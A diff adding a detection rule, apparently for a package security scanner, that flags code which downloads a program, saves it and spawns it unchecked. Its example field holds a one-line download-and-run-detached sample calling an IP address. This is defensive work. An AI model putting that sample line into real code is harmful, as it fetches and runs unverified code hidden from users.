@@ -1,0 +1,73 @@
+import { isCollectionHost, isLocalHost, isPasteHost, isPublicAddress } from "../hosts.ts";
+import type { Rule, Sighting } from "../rule.ts";
+import type { LensView } from "../view.ts";
+import { placeOf } from "../view.ts";
+import { optionOf } from "../../program/targets.ts";
+import type { Use } from "../../program/uses.ts";
+import { hasFlow, textsOf } from "../../program/value.ts";
+
+export const runsDownloadedPrograms: Rule = {
+  id: "runs-downloaded-programs",
+  title: "Downloads a program and runs it",
+  why:
+    "Honest packages that fetch their binary name a release host and hold the bytes against a digest that is " +
+    "written in the package. Payloads fetch from anywhere, check nothing and start it out of sight.",
+  example:
+    'https.get("http://198.51.100.7/a", (r) => r.pipe(fs.createWriteStream("/tmp/a")).on("close", () => spawn("/tmp/a", { detached: true })));',
+  advice:
+    "Find out what the program is and who publishes it; prefer a package that ships or pins it.",
+  severity: "high",
+  confidence: "medium",
+  look: (view) => view.spawns.flatMap((use) => sightingOf(use, view)),
+};
+
+function sightingOf(use: Use, view: LensView): readonly Sighting[] {
+  const uses = view.usesOf(use.module);
+  const written = writtenFromNetwork(uses);
+  if (written.length === 0) return [];
+  const programs = new Set(view.commandsOf(use).flatMap((command) => command.split(" ")));
+  const [program] = use.args;
+  const isSame = written.some(({ path, node }) =>
+    path === undefined ? node !== undefined && node === program : programs.has(path),
+  );
+  if (!isSame) return [];
+  const checks = uses.some(({ path }) => path === "crypto.createHash");
+  const hosts = uses.flatMap((each) => (each.spec?.takes === "send" ? view.hostsOf(each) : []));
+  const bad = hosts.find(
+    (host) => isPublicAddress(host) || isCollectionHost(host) || isPasteHost(host),
+  );
+  if (bad === undefined && checks) return [];
+  if (hosts.length > 0 && hosts.every(isLocalHost)) return [];
+  const hidden = optionOf(use, "detached") === true || optionOf(use, "windowsHide") === true;
+  const from =
+    bad ?? hosts.find((host) => !host.includes("…")) ?? "an address that is not written out";
+  const message = `A program is downloaded from ${from}, saved and started${
+    hidden ? " out of sight" : ""
+  }; nothing checks what it is.`;
+  const severity = bad !== undefined ? "critical" : hidden ? "medium" : "low";
+  return [
+    { place: placeOf(use), message, severity, confidence: bad === undefined ? "low" : "high" },
+  ];
+}
+
+interface Written {
+  readonly path: string | undefined;
+  readonly node: unknown;
+}
+
+/** Files that are written with what came over the network. */
+function writtenFromNetwork(uses: readonly Use[]): readonly Written[] {
+  return uses.flatMap((use): readonly Written[] => {
+    if (use.spec?.takes !== "write") return [];
+    const data = use.args.slice(1).some((arg) => hasFlow(arg, "remote"));
+    const isStream =
+      use.path === "fs.createWriteStream" &&
+      uses.some((each) => each.spec?.capability === "network-out");
+    if (!data && !isStream) return [];
+    const [target] = use.args;
+    const texts = target === undefined ? [] : textsOf(target);
+    return texts.length === 0
+      ? [{ path: undefined, node: target }]
+      : texts.map((path) => ({ path, node: undefined }));
+  });
+}
